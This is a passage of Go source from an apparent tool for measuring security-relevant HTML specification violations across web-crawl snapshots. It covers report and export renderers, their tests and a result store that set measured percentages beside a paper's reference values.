		sleep := p.Delay(attempt - 1)
		if p.OnRetry != nil {
			p.OnRetry(attempt, sleep, err)
		}
		if !Sleep(ctx, sleep) {
			return errors.Join(err, ctx.Err())
		}
	}
}

// Do runs f under the policy and returns its value; see Policy.Do for
// the retry semantics.
func Do[T any](ctx context.Context, p Policy, f func() (T, error)) (T, error) {
	var out T
	err := p.Do(ctx, func() error {
		var ferr error
		out, ferr = f()
		return ferr
	})
	return out, err
}

// Sleep sleeps for d unless the context ends first; it reports
// whether the full sleep happened. A non-positive d is a yield-free
// no-op — the hot path must not touch timers. It is the cancellable
// replacement for time.Sleep that the ctxsleep analyzer demands in
// pipeline packages.
func Sleep(ctx context.Context, d time.Duration) bool {
	if d <= 0 {
		return true
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return true
	case <-ctx.Done():
		return false
	}
}
