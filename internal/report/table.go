// Package report renders the reproduced tables and figures as text, with
// paper-reference columns beside the measured values. It is shared by
// cmd/hvreport and the benchmark harness.
package report

import (
	"fmt"
	"strings"
)

// Table is a simple aligned text table.
type Table struct {
	Title   string
	Headers []string
	Rows    [][]string
}

// AddRow appends a row; values are stringified with %v.
func (t *Table) AddRow(cells ...any) {
	row := make([]string, len(cells))
	for i, c := range cells {
		switch v := c.(type) {
		case float64:
			row[i] = fmt.Sprintf("%.2f", v)
		default:
			row[i] = fmt.Sprintf("%v", c)
		}
	}
	t.Rows = append(t.Rows, row)
}

// String renders the table with aligned columns.
func (t *Table) String() string {
	var b strings.Builder
	if t.Title != "" {
		b.WriteString(t.Title)
		b.WriteByte('\n')
		b.WriteString(strings.Repeat("=", displayWidth(t.Title)))
		b.WriteByte('\n')
	}
	widths := make([]int, len(t.Headers))
	for i, h := range t.Headers {
		widths[i] = displayWidth(h)
	}
	for _, row := range t.Rows {
		for i, c := range row {
			if i < len(widths) && displayWidth(c) > widths[i] {
				widths[i] = displayWidth(c)
			}
		}
	}
	writeRow := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			b.WriteString(c)
			if i < len(cells)-1 {
				b.WriteString(strings.Repeat(" ", widths[i]-displayWidth(c)))
			}
		}
		b.WriteByte('\n')
	}
	writeRow(t.Headers)
	sep := make([]string, len(t.Headers))
	for i := range sep {
		sep[i] = strings.Repeat("-", widths[i])
	}
	writeRow(sep)
	for _, row := range t.Rows {
		writeRow(row)
	}
	return b.String()
}

// displayWidth approximates the printed width (runes, not bytes).
func displayWidth(s string) int {
	n := 0
	for range s {
		n++
	}
	return n
}

// Series renders a compact one-line numeric series.
func Series(label string, values []float64) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-8s", label)
	for _, v := range values {
		switch {
		case v >= 10:
			fmt.Fprintf(&b, " %6.1f", v)
		case v >= 0.1:
			fmt.Fprintf(&b, " %6.2f", v)
		default:
			fmt.Fprintf(&b, " %6.3f", v)
		}
	}
	return b.String()
}

// Delta annotates a measured value with its deviation from the paper.
func Delta(measured, paper float64) string {
	return fmt.Sprintf("%.2f (paper %.2f, Δ%+.2f)", measured, paper, measured-paper)
}
