package report

import (
	"encoding/csv"
	"encoding/json"
	"io"
	"strconv"

	"github.com/hvscan/hvscan/internal/analysis"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/store"
)

// Machine-readable exports of the full experiment suite, for plotting the
// figures outside Go (matplotlib, gnuplot, spreadsheets).

// Export carries every measured aggregate plus the paper's reference
// values, keyed the way the paper's figures are.
type Export struct {
	Crawls  []string                    `json:"crawls"`
	Table2  []analysis.Table2Row        `json:"table2,omitempty"`
	Figure8 map[string]PaperComparison  `json:"figure8_union_pct"`
	Figure9 []YearComparison            `json:"figure9_violating_pct"`
	Groups  map[string][]float64        `json:"figure10_group_pct"`
	Rules   map[string][]float64        `json:"rule_trend_pct"`
	Paper   map[string][]float64        `json:"paper_rule_trend_pct"`
	Union   PaperComparison             `json:"section42_union_pct"`
	Fix     analysis.Fixability         `json:"section44_fixability"`
	Mitig   []analysis.MitigationStats  `json:"section45_mitigations"`
	Plan    []analysis.DeprecationStage `json:"section53_plan"`
}

// PaperComparison pairs a measured value with the paper's.
type PaperComparison struct {
	Measured float64 `json:"measured"`
	Paper    float64 `json:"paper"`
}

// YearComparison is one yearly point with the paper's value.
type YearComparison struct {
	Crawl    string  `json:"crawl"`
	Measured float64 `json:"measured"`
	Paper    float64 `json:"paper"`
}

// BuildExport assembles the export from an analyzer.
func BuildExport(a *analysis.Analyzer, stats []store.CrawlStats) *Export {
	e := &Export{
		Crawls:  a.Crawls(),
		Figure8: map[string]PaperComparison{},
		Groups:  map[string][]float64{},
		Rules:   map[string][]float64{},
		Paper:   analysis.PaperRuleTrends,
	}
	if len(stats) > 0 {
		e.Table2 = analysis.Table2(stats)
	}
	_, dist := a.Distribution()
	for _, rule := range core.RuleIDs() {
		e.Figure8[rule] = PaperComparison{Measured: dist[rule].Pct, Paper: analysis.PaperFigure8[rule]}
	}
	for i, p := range a.YearlyViolating() {
		yc := YearComparison{Crawl: p.Crawl, Measured: p.Pct}
		if i < len(analysis.PaperFigure9) {
			yc.Paper = analysis.PaperFigure9[i]
		}
		e.Figure9 = append(e.Figure9, yc)
	}
	for g, pts := range a.GroupTrends() {
		e.Groups[string(g)] = pctsOf(pts)
	}
	for rule, pts := range a.RuleTrends() {
		e.Rules[rule] = pctsOf(pts)
	}
	u := a.UnionViolating()
	e.Union = PaperComparison{Measured: u.Pct, Paper: analysis.PaperUnionViolatingPct}
	e.Fix = a.FixabilityFor(a.LatestCrawl())
	e.Mitig = a.Mitigations()
	e.Plan = a.DeprecationPlan(1.0, 25)
	return e
}

func pctsOf(points []analysis.YearlyPoint) []float64 {
	out := make([]float64, len(points))
	for i, p := range points {
		out[i] = p.Pct
	}
	return out
}

// WriteJSON emits the export as indented JSON.
func (e *Export) WriteJSON(w io.Writer) error {
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(e)
}

// WriteCSV emits the per-rule yearly series as tidy CSV with measured and
// paper columns — one row per (rule, crawl):
//
//	rule,crawl,measured_pct,paper_pct
func (e *Export) WriteCSV(w io.Writer) error {
	cw := csv.NewWriter(w)
	if err := cw.Write([]string{"rule", "crawl", "measured_pct", "paper_pct"}); err != nil {
		return err
	}
	for _, rule := range core.RuleIDs() {
		series := e.Rules[rule]
		paper := e.Paper[rule]
		for i, crawl := range e.Crawls {
			row := []string{rule, crawl, fmtPct(series, i), fmtPct(paper, i)}
			if err := cw.Write(row); err != nil {
				return err
			}
		}
	}
	cw.Flush()
	return cw.Error()
}

func fmtPct(series []float64, i int) string {
	if i >= len(series) {
		return ""
	}
	return strconv.FormatFloat(series[i], 'f', 4, 64)
}
