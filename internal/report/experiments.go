package report

import (
	"fmt"
	"strings"

	"github.com/hvscan/hvscan/internal/analysis"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/store"
)

// Experiment renderers: one function per table/figure of the paper. Each
// takes measured data and prints the same rows or series the paper
// reports, with the paper's values alongside for comparison.

// Table1 renders the violation catalogue.
func Table1() string {
	t := &Table{
		Title:   "Table 1: security-relevant HTML specification violations",
		Headers: []string{"ID", "Group", "Category", "Auto-fix", "Name"},
	}
	for _, r := range core.Rules() {
		t.AddRow(r.ID, string(r.Group), string(r.Category), yesNo(r.AutoFixable), r.Name)
	}
	return t.String()
}

func yesNo(b bool) string {
	if b {
		return "yes"
	}
	return "no"
}

// Table2 renders the dataset statistics beside the paper's row values.
func Table2(rows []analysis.Table2Row) string {
	t := &Table{
		Title: "Table 2: analyzed domains per crawl (measured | paper)",
		Headers: []string{"Snapshot", "Domains", "Succ.", "Succ.%", "Ø Pages",
			"paper:Domains", "paper:Succ.%", "paper:Ø"},
	}
	paper := map[string]analysis.PaperTable2Row{}
	for _, pr := range analysis.PaperTable2 {
		paper[pr.Crawl] = pr
	}
	for _, r := range rows {
		pr := paper[r.Crawl]
		t.AddRow(r.Crawl, r.Domains, r.Analyzed,
			fmt.Sprintf("%.1f", r.SuccessPct), fmt.Sprintf("%.1f", r.AvgPages),
			pr.Domains, fmt.Sprintf("%.1f", pr.SuccessPct), fmt.Sprintf("%.1f", pr.AvgPages))
	}
	return t.String()
}

// Figure8 renders the all-years per-violation distribution.
func Figure8(a *analysis.Analyzer) string {
	total, dist := a.Distribution()
	t := &Table{
		Title:   fmt.Sprintf("Figure 8: violation distribution over the whole study (%d domains)", total),
		Headers: []string{"Violation", "Domains", "Measured %", "Paper %"},
	}
	for _, rule := range analysis.PaperFigure8Order {
		p := dist[rule]
		t.AddRow(rule, p.Count, fmt.Sprintf("%.2f", p.Pct),
			fmt.Sprintf("%.2f", analysis.PaperFigure8[rule]))
	}
	return t.String()
}

// Figure9 renders the yearly violating-domain series.
func Figure9(a *analysis.Analyzer) string {
	series := a.YearlyViolating()
	t := &Table{
		Title:   "Figure 9: domains with at least one violation",
		Headers: []string{"Snapshot", "Analyzed", "Violating", "Measured %", "Paper %"},
	}
	for i, p := range series {
		paper := "-"
		if i < len(analysis.PaperFigure9) {
			paper = fmt.Sprintf("%.2f", analysis.PaperFigure9[i])
		}
		t.AddRow(p.Crawl, p.Analyzed, p.Count, fmt.Sprintf("%.2f", p.Pct), paper)
	}
	return t.String()
}

// Figure10 renders the problem-group trends.
func Figure10(a *analysis.Analyzer) string {
	trends := a.GroupTrends()
	var b strings.Builder
	b.WriteString("Figure 10: trend of problem groups (percent of analyzed domains per year)\n")
	for _, g := range []core.Group{core.FilterBypass, core.DataManipulation,
		core.DataExfiltration, core.HTMLFormatting} {
		vals := pcts(trends[g])
		b.WriteString(Series(string(g), vals))
		if ep, ok := analysis.PaperFigure10[string(g)]; ok {
			fmt.Fprintf(&b, "   paper: %.0f -> %.0f", ep[0], ep[1])
		}
		b.WriteByte('\n')
	}
	return b.String()
}

// AppendixFigure renders one of Figures 16–21.
func AppendixFigure(a *analysis.Analyzer, figure string) string {
	for _, f := range analysis.AppendixFigures {
		if f.Figure != figure {
			continue
		}
		trends := a.RuleTrends(f.Rules...)
		var b strings.Builder
		fmt.Fprintf(&b, "Figure %s: %s (percent of analyzed domains per year; second row = paper)\n",
			f.Figure, f.Title)
		for _, rule := range f.Rules {
			b.WriteString(Series(rule, pcts(trends[rule])))
			b.WriteByte('\n')
			b.WriteString(Series("  paper", analysis.PaperRuleTrends[rule]))
			b.WriteByte('\n')
		}
		return b.String()
	}
	return "unknown figure " + figure
}

// Section42 renders the union statistic.
func Section42(a *analysis.Analyzer) string {
	u := a.UnionViolating()
	return fmt.Sprintf("§4.2 union: %d of %d domains (%s%%) violated at least once over all snapshots\n",
		u.Count, u.Analyzed, Delta(u.Pct, analysis.PaperUnionViolatingPct))
}

// Section44 renders the fixability estimate.
func Section44(a *analysis.Analyzer) string {
	f := a.FixabilityFor(a.LatestCrawl())
	var b strings.Builder
	fmt.Fprintf(&b, "§4.4 automatic fixability (%s):\n", f.Crawl)
	fmt.Fprintf(&b, "  violating domains:            %d of %d (%.1f%%)\n",
		f.Violating, f.Analyzed, 100*float64(f.Violating)/float64(max(1, f.Analyzed)))
	fmt.Fprintf(&b, "  only auto-fixable violations: %d\n", f.OnlyAutoFixable)
	fmt.Fprintf(&b, "  fixable share of violating:   %s%%\n",
		Delta(f.FixableOfViolPct, analysis.PaperFixableOfViolatingPct))
	fmt.Fprintf(&b, "  remaining after auto-fix:     %s%%\n",
		Delta(f.RemainingPct, analysis.PaperRemainingAfterFixPct))
	return b.String()
}

// Section45 renders the mitigation overlap.
func Section45(a *analysis.Analyzer) string {
	ms := a.Mitigations()
	var b strings.Builder
	b.WriteString("§4.5 existing mitigations (percent of analyzed domains per year)\n")
	rows := []struct {
		label       string
		get         func(analysis.MitigationStats) float64
		first, last float64
	}{
		{"newline in URL", func(m analysis.MitigationStats) float64 { return m.NewlineURL.Pct },
			analysis.PaperNewlineURL2015Pct, analysis.PaperNewlineURL2022Pct},
		{"newline + '<'", func(m analysis.MitigationStats) float64 { return m.NewlineLtURL.Pct },
			analysis.PaperNewlineLt2015Pct, analysis.PaperNewlineLt2022Pct},
		{"<script in attr", func(m analysis.MitigationStats) float64 { return m.ScriptInAttr.Pct },
			analysis.PaperScriptInAttr2015Pct, analysis.PaperScriptInAttr2022Pct},
	}
	for _, row := range rows {
		vals := make([]float64, len(ms))
		for i, m := range ms {
			vals[i] = row.get(m)
		}
		b.WriteString(Series(row.label[:min(8, len(row.label))], vals))
		fmt.Fprintf(&b, "   %-16s paper: %.2f -> %.2f\n", row.label, row.first, row.last)
	}
	if len(ms) > 0 {
		affected := 0
		for _, m := range ms {
			affected += m.NonceAffected.Count
		}
		fmt.Fprintf(&b, "nonce-carrying scripts actually affected by the mitigation: %d (paper: 0)\n", affected)
		fmt.Fprintf(&b, "math element adoption: %d (first) -> %d (last) domains (paper: %d -> %d)\n",
			ms[0].MathDomains, ms[len(ms)-1].MathDomains,
			analysis.PaperMathDomains2015, analysis.PaperMathDomains2022)
	}
	return b.String()
}

// Repairability renders the per-snapshot machine-repairability table
// measured by `hvcrawl -fix`: how many analyzed pages were clean,
// verifiably repaired to zero violations, partially repaired, or
// unfixable, and the resulting repairability rate over violating pages.
// It extends the paper's §4.4 fixability estimate (which counts domains
// whose violations fall in the auto-fixable set) with an end-to-end
// measurement: each fix is applied, re-parsed and re-checked.
func Repairability(stats []store.CrawlStats) string {
	t := &Table{
		Title: "Machine repairability by snapshot (hvcrawl -fix; repairs verified by re-parse)",
		Headers: []string{"Snapshot", "Pages", "Clean", "Fixed", "Partial",
			"Unfixable", "Repairable %"},
	}
	measured := false
	for _, s := range stats {
		rate, violating, ok := s.Repairability()
		if !ok {
			continue
		}
		measured = true
		pct := "-"
		if violating > 0 {
			pct = fmt.Sprintf("%.1f", 100*rate)
		}
		t.AddRow(s.Crawl, s.PagesAnalyzed, s.FixOutcomes["clean"], s.FixOutcomes["fixed"],
			s.FixOutcomes["partial"], s.FixOutcomes["unfixable"], pct)
	}
	if !measured {
		return "no repairability data: re-run the crawl with `hvcrawl -fix`\n"
	}
	return t.String()
}

// All renders the full experiment suite.
func All(a *analysis.Analyzer, stats []store.CrawlStats) string {
	var b strings.Builder
	b.WriteString(Table1())
	b.WriteByte('\n')
	if len(stats) > 0 {
		b.WriteString(Table2(analysis.Table2(stats)))
		b.WriteByte('\n')
	}
	b.WriteString(Figure8(a))
	b.WriteByte('\n')
	b.WriteString(Figure9(a))
	b.WriteByte('\n')
	b.WriteString(Figure10(a))
	b.WriteByte('\n')
	for _, f := range analysis.AppendixFigures {
		b.WriteString(AppendixFigure(a, f.Figure))
		b.WriteByte('\n')
	}
	b.WriteString(Section42(a))
	b.WriteByte('\n')
	b.WriteString(Section44(a))
	b.WriteByte('\n')
	b.WriteString(Section45(a))
	for _, s := range stats {
		if len(s.FixOutcomes) > 0 {
			b.WriteByte('\n')
			b.WriteString(Repairability(stats))
			break
		}
	}
	return b.String()
}

func pcts(points []analysis.YearlyPoint) []float64 {
	out := make([]float64, len(points))
	for i, p := range points {
		out[i] = p.Pct
	}
	return out
}
