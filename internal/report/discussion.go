package report

import (
	"fmt"
	"strings"

	"github.com/hvscan/hvscan/internal/analysis"
	"github.com/hvscan/hvscan/internal/prestudy"
)

// Renderers for the Discussion-section reproductions (§5.1–§5.3).

// Section51 renders the dynamic-content pre-study.
func Section51(r *prestudy.DynamicResult) string {
	var b strings.Builder
	b.WriteString("§5.1 dynamic-content pre-study (runtime-loaded HTML fragments)\n")
	fmt.Fprintf(&b, "  sites with dynamic content: %d (%d fragments)\n", r.Sites, r.Fragments)
	fmt.Fprintf(&b, "  sites with >=1 violation:   %d (%.1f%%; paper: \"more than 60%%\")\n",
		r.SitesWithViol, r.ViolatingPct)
	top := r.TopRules
	if len(top) > 5 {
		top = top[:5]
	}
	fmt.Fprintf(&b, "  top violations: %s (paper: FB2 and DM3 in top positions)\n",
		strings.Join(top, ", "))
	fmt.Fprintf(&b, "  math-related violations absent: %v (paper: \"hardly appear\")\n", r.MathRuleQuiet)
	return b.String()
}

// Section52 renders the popularity generalization.
func Section52(a *analysis.Analyzer) string {
	g := a.GeneralizationFor(a.LatestCrawl())
	var b strings.Builder
	fmt.Fprintf(&b, "§5.2 generalization: top vs tail of the ranking (%s)\n", g.Crawl)
	row := func(name string, s analysis.Stratum) {
		fmt.Fprintf(&b, "  %-10s %5d domains  %.1f%% violating  %.2f violations/violating domain  top: %s\n",
			name, s.Domains, s.ViolatingPct, s.AvgViolations, strings.Join(s.TopRules, ","))
	}
	row("top third", g.Top)
	row("tail third", g.Tail)
	b.WriteString("  paper: distribution similar across strata; popular sites carry more violations on average\n")
	return b.String()
}

// Section53 renders the projected deprecation roadmap.
func Section53(a *analysis.Analyzer, thresholdPct float64) string {
	plan := a.DeprecationPlan(thresholdPct, 25)
	var b strings.Builder
	fmt.Fprintf(&b, "§5.3 projected STRICT-PARSER enforcement stages (threshold %.1f%% of domains, linear trend)\n", thresholdPct)
	for _, stage := range plan {
		if stage.Year == -1 {
			fmt.Fprintf(&b, "  needs developer action first (flat/rising trend): %s\n",
				strings.Join(stage.Rules, ", "))
			continue
		}
		fmt.Fprintf(&b, "  %d: %s\n", stage.Year, strings.Join(stage.Rules, ", "))
	}
	b.WriteString("  paper: start with the rare violations (math namespace, dangling markup),\n")
	b.WriteString("  extend the enforced list as usage decays, until default equals strict\n")
	return b.String()
}

// ChurnReport renders the between-snapshot turnover (the Figure 14
// mechanism: site changes both remove and introduce violations).
func ChurnReport(a *analysis.Analyzer) string {
	crawls := a.Crawls()
	if len(crawls) < 2 {
		return "churn: need at least two crawls\n"
	}
	c := a.ChurnBetween(crawls[0], crawls[len(crawls)-1])
	var b strings.Builder
	fmt.Fprintf(&b, "violation churn %s -> %s (%d domains in both)\n", c.FromCrawl, c.ToCrawl, c.Common)
	fmt.Fprintf(&b, "  fixed: %d   newly violating: %d   still violating: %d   still clean: %d\n",
		c.Fixed, c.NewlyViolating, c.StillViolating, c.StillClean)
	b.WriteString("  per-rule turnover (kept/lost/gained, % of involved domains that changed):\n")
	for _, rc := range c.PerRule {
		if rc.Kept+rc.Lost+rc.Gained == 0 {
			continue
		}
		fmt.Fprintf(&b, "    %-6s kept %5d  lost %5d  gained %5d  turnover %5.1f%%\n",
			rc.Rule, rc.Kept, rc.Lost, rc.Gained, rc.TurnoverPct)
	}
	b.WriteString("  paper §4.4/§5.2: changes to a website can remove violations but also introduce new ones\n")
	return b.String()
}
