package report

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/hvscan/hvscan/internal/analysis"
	"github.com/hvscan/hvscan/internal/store"
)

func sampleAnalyzer() *analysis.Analyzer {
	st := store.New()
	st.Put(&store.DomainResult{
		Crawl: "CC-MAIN-2015-14", Domain: "a.example",
		PagesFound: 3, PagesAnalyzed: 3,
		Violations: map[string]int{"FB2": 1, "HF4": 2},
		Signals:    map[string]int{store.SignalNewlineURL: 1},
	})
	st.Put(&store.DomainResult{
		Crawl: "CC-MAIN-2022-05", Domain: "a.example",
		PagesFound: 3, PagesAnalyzed: 3,
		Violations: map[string]int{"DM3": 1},
	})
	st.Put(&store.DomainResult{
		Crawl: "CC-MAIN-2022-05", Domain: "b.example",
		PagesFound: 2, PagesAnalyzed: 2,
	})
	return analysis.New(st)
}

func TestTableRendering(t *testing.T) {
	tbl := &Table{
		Title:   "T",
		Headers: []string{"col1", "c2"},
	}
	tbl.AddRow("a", 1)
	tbl.AddRow("longer-value", 2.5)
	out := tbl.String()
	// Title, title underline, header, separator, two rows.
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 6 {
		t.Fatalf("lines = %q", lines)
	}
	if !strings.HasPrefix(lines[3], "----") {
		t.Fatalf("separator missing: %q", lines[3])
	}
	if !strings.Contains(out, "2.50") {
		t.Fatalf("float formatting: %q", out)
	}
}

func TestSeriesAndDelta(t *testing.T) {
	s := Series("FB2", []float64{50.25, 9.1, 0.05})
	if !strings.Contains(s, "50.2") || !strings.Contains(s, "9.10") || !strings.Contains(s, "0.050") {
		t.Fatalf("series = %q", s)
	}
	d := Delta(45.5, 46.0)
	if !strings.Contains(d, "paper 46.00") || !strings.Contains(d, "-0.50") {
		t.Fatalf("delta = %q", d)
	}
}

func TestTable1ListsAllRules(t *testing.T) {
	out := Table1()
	for _, id := range []string{"DE1", "DE3_2", "DM2_3", "HF5_3", "FB2"} {
		if !strings.Contains(out, id) {
			t.Fatalf("table 1 missing %s:\n%s", id, out)
		}
	}
}

func TestExperimentRenderers(t *testing.T) {
	a := sampleAnalyzer()
	for name, render := range map[string]func() string{
		"fig8":  func() string { return Figure8(a) },
		"fig9":  func() string { return Figure9(a) },
		"fig10": func() string { return Figure10(a) },
		"fig16": func() string { return AppendixFigure(a, "16") },
		"fig21": func() string { return AppendixFigure(a, "21") },
		"s42":   func() string { return Section42(a) },
		"s44":   func() string { return Section44(a) },
		"s45":   func() string { return Section45(a) },
	} {
		out := render()
		if len(out) == 0 {
			t.Fatalf("%s rendered empty", name)
		}
		if !strings.Contains(out, "paper") && !strings.Contains(out, "Paper") {
			t.Fatalf("%s lacks paper comparison:\n%s", name, out)
		}
	}
	if got := AppendixFigure(a, "99"); !strings.Contains(got, "unknown figure") {
		t.Fatalf("bad figure = %q", got)
	}
}

func TestAllIncludesEverything(t *testing.T) {
	a := sampleAnalyzer()
	stats := []store.CrawlStats{
		{Crawl: "CC-MAIN-2015-14", Found: 1, Analyzed: 1, PagesAnalyzed: 3},
		{Crawl: "CC-MAIN-2022-05", Found: 2, Analyzed: 2, PagesAnalyzed: 5},
	}
	out := All(a, stats)
	for _, want := range []string{
		"Table 1", "Table 2", "Figure 8", "Figure 9", "Figure 10",
		"Figure 16", "Figure 17", "Figure 18", "Figure 19", "Figure 20",
		"Figure 21", "§4.2", "§4.4", "§4.5",
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("All() missing %q", want)
		}
	}
}

func TestExportJSONAndCSV(t *testing.T) {
	a := sampleAnalyzer()
	e := BuildExport(a, []store.CrawlStats{
		{Crawl: "CC-MAIN-2015-14", Found: 1, Analyzed: 1, PagesAnalyzed: 3},
	})
	if len(e.Figure8) != 20 || len(e.Rules) != 20 {
		t.Fatalf("export incomplete: %d figure8, %d rules", len(e.Figure8), len(e.Rules))
	}
	var js strings.Builder
	if err := e.WriteJSON(&js); err != nil {
		t.Fatal(err)
	}
	var decoded map[string]any
	if err := json.Unmarshal([]byte(js.String()), &decoded); err != nil {
		t.Fatalf("export not valid JSON: %v", err)
	}
	for _, key := range []string{"crawls", "figure8_union_pct", "figure9_violating_pct",
		"figure10_group_pct", "section42_union_pct", "section44_fixability",
		"section45_mitigations", "section53_plan"} {
		if _, ok := decoded[key]; !ok {
			t.Fatalf("JSON export missing %q", key)
		}
	}

	var csvOut strings.Builder
	if err := e.WriteCSV(&csvOut); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(csvOut.String())).ReadAll()
	if err != nil {
		t.Fatalf("export not valid CSV: %v", err)
	}
	// header + 20 rules × number of crawls
	want := 1 + 20*len(e.Crawls)
	if len(rows) != want {
		t.Fatalf("CSV rows = %d, want %d", len(rows), want)
	}
	if rows[0][0] != "rule" || len(rows[1]) != 4 {
		t.Fatalf("CSV shape: %v", rows[0])
	}
}
