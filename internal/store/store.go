// Package store is the embedded result sink of the measurement pipeline —
// the stand-in for the paper's PostgresDB (Figure 6, step 4). It keeps
// per-domain aggregates (which is all the paper's analyses group by),
// is safe for concurrent writers, and persists as JSONL.
package store

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"sort"
	"sync"

	"github.com/hvscan/hvscan/internal/obs"
)

// DomainResult aggregates one domain within one crawl snapshot.
type DomainResult struct {
	Crawl  string `json:"crawl"`
	Domain string `json:"domain"`
	// Rank is the domain's dataset rank (1 = most popular), when known.
	Rank int `json:"rank,omitempty"`
	// PagesFound is how many captures the index returned.
	PagesFound int `json:"pages_found"`
	// PagesAnalyzed is how many passed the MIME/UTF-8 filters and were
	// checked.
	PagesAnalyzed int `json:"pages_analyzed"`
	// PagesFailed counts pages that errored during the check stage (e.g.
	// a recovered checker panic on adversarial HTML) rather than being
	// filtered out.
	PagesFailed int `json:"pages_failed,omitempty"`
	// PageFailures samples the first few per-page failure messages (URL
	// plus cause), capped so adversarial input cannot bloat the store;
	// PagesFailed keeps the true count.
	PageFailures []string `json:"page_failures,omitempty"`
	// Violations maps rule ID to the number of pages it fired on.
	Violations map[string]int `json:"violations,omitempty"`
	// Signals maps signal name to the number of pages showing it.
	Signals map[string]int `json:"signals,omitempty"`
	// FixOutcomes maps repair outcome (clean/fixed/partial/unfixable)
	// to the number of pages, populated when the crawl runs in -fix
	// measurement mode.
	FixOutcomes map[string]int `json:"fix_outcomes,omitempty"`
	// FixesApplied maps rule ID to the number of verified fixes the
	// repair engine applied across the domain's pages in -fix mode.
	FixesApplied map[string]int `json:"fixes_applied,omitempty"`
}

// Analyzed reports whether the domain produced at least one analyzable page.
func (d *DomainResult) Analyzed() bool { return d.PagesAnalyzed > 0 }

// Violated reports whether any rule fired on any page.
func (d *DomainResult) Violated() bool {
	for _, n := range d.Violations {
		if n > 0 {
			return true
		}
	}
	return false
}

// Signal names recorded per domain by the pipeline.
const (
	SignalNewlineURL    = "newline-url"
	SignalNewlineLtURL  = "newline-lt-url"
	SignalScriptInAttr  = "script-in-attr"
	SignalNonceAffected = "nonce-affected"
	SignalUsesMath      = "uses-math"
	SignalUsesSVG       = "uses-svg"
)

// CrawlStats summarizes one snapshot run of the pipeline (one Table 2
// row): how many domains were attempted, found on the crawl, and
// successfully analyzed, with page totals — plus the failure ledger a
// graceful-degradation run keeps instead of aborting on the first
// error (see the crawler's error budget).
type CrawlStats struct {
	Crawl         string
	Domains       int // domains attempted
	Found         int // domains with at least one capture
	Analyzed      int // domains with at least one analyzable page
	PagesFound    int
	PagesAnalyzed int

	// DomainsFailed counts domains that exhausted their retries or hit
	// a permanent fault; their partial work is still included in
	// PagesFound / PagesAnalyzed and itemized in Failed.
	DomainsFailed int `json:",omitempty"`
	// DomainsResumed counts domains replayed from a resume journal
	// instead of being re-crawled.
	DomainsResumed int `json:",omitempty"`
	// FailedByClass breaks DomainsFailed down by resilience error class
	// ("retryable", "permanent", "fatal").
	FailedByClass map[string]int `json:",omitempty"`
	// Failed records each failed domain: what broke, how it classified,
	// and how much partial work completed before the fault.
	Failed []FailedDomain `json:",omitempty"`

	// FixOutcomes and FixesApplied aggregate the -fix measurement mode
	// across the snapshot's pages: repair outcome -> pages, and rule ID
	// -> verified fixes applied. Empty unless the run repaired pages.
	FixOutcomes  map[string]int `json:",omitempty"`
	FixesApplied map[string]int `json:",omitempty"`
}

// FailedDomain is one entry of the snapshot's failure ledger.
type FailedDomain struct {
	Domain string
	Class  string
	Err    string
	// PagesFound / PagesAnalyzed record the partial work done before
	// the fault — a domain that dies on page 90 of 100 still measured
	// 89 pages.
	PagesFound    int `json:",omitempty"`
	PagesAnalyzed int `json:",omitempty"`
}

// AvgPages is the average number of analyzed pages per analyzed domain.
func (s CrawlStats) AvgPages() float64 {
	if s.Analyzed == 0 {
		return 0
	}
	return float64(s.PagesAnalyzed) / float64(s.Analyzed)
}

// AbsorbFix folds one domain's -fix measurements into the snapshot
// aggregate. It is the fix-mode counterpart of the PagesFound /
// PagesAnalyzed accumulation and is applied on the live, failed-partial
// and journal-replay paths alike.
func (s *CrawlStats) AbsorbFix(d *DomainResult) {
	if len(d.FixOutcomes) > 0 && s.FixOutcomes == nil {
		s.FixOutcomes = make(map[string]int)
	}
	for outcome, n := range d.FixOutcomes {
		s.FixOutcomes[outcome] += n
	}
	if len(d.FixesApplied) > 0 && s.FixesApplied == nil {
		s.FixesApplied = make(map[string]int)
	}
	for rule, n := range d.FixesApplied {
		s.FixesApplied[rule] += n
	}
}

// Repairability is the snapshot's machine-repairability rate: of the
// pages that violated at least one rule (every fix outcome but clean),
// the fraction a verified repair drove to zero violations. The bool is
// false when the snapshot carries no -fix measurements.
func (s CrawlStats) Repairability() (rate float64, violating int, ok bool) {
	if len(s.FixOutcomes) == 0 {
		return 0, 0, false
	}
	for outcome, n := range s.FixOutcomes {
		if outcome != "clean" {
			violating += n
		}
	}
	if violating == 0 {
		return 0, 0, true
	}
	return float64(s.FixOutcomes["fixed"]) / float64(violating), violating, true
}

// Store is a concurrency-safe collection of domain results keyed by
// (crawl, domain).
type Store struct {
	mu   sync.RWMutex
	data map[string]map[string]*DomainResult // crawl -> domain -> result

	// puts/size, when instrumented, count writes and track the live
	// result count; nil otherwise.
	puts *obs.Counter
	size *obs.Gauge
}

// New returns an empty store.
func New() *Store {
	return &Store{data: make(map[string]map[string]*DomainResult)}
}

// Instrument registers write and size metrics (store_puts_total,
// store_domain_results) on reg and returns the store for chaining.
func (s *Store) Instrument(reg *obs.Registry) *Store {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.puts = reg.Counter("store_puts_total")
	s.size = reg.Gauge("store_domain_results")
	return s
}

// Put inserts or replaces a domain result.
func (s *Store) Put(r *DomainResult) {
	s.mu.Lock()
	defer s.mu.Unlock()
	m := s.data[r.Crawl]
	if m == nil {
		m = make(map[string]*DomainResult)
		s.data[r.Crawl] = m
	}
	if _, replaced := m[r.Domain]; !replaced && s.size != nil {
		s.size.Inc()
	}
	if s.puts != nil {
		s.puts.Inc()
	}
	m[r.Domain] = r
}

// Get returns the result for (crawl, domain), or nil.
func (s *Store) Get(crawl, domain string) *DomainResult {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.data[crawl][domain]
}

// Crawls lists the crawls present, sorted (which is chronological for
// CC-MAIN identifiers).
